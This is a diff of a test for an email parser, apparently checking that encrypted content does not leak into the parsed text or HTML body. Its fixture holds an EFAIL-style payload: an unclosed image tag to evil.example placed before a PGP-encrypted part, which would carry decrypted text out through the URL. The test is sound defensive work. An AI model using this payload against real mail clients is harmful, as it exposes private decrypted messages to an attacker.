@@ -193,7 +193,7 @@ describe('body and files', () => {
       'Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src="https://evil.example/?\n--b\nContent-Type: multipart/encrypted; boundary=e\n\n--e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--e\nContent-Type: application/octet-stream\n\nCIPHERTEXT\n--e--\n--b--\n',
     )
     expect(content.attachments).toHaveLength(1)
-    expect(`${content.text}${content.html}`).not.toContain('CIPHERTEXT')
+    expect(JSON.stringify([content.text, content.html])).not.toContain('CIPHERTEXT')
   })
 
   it('the text of a nested message is no body text', () => {
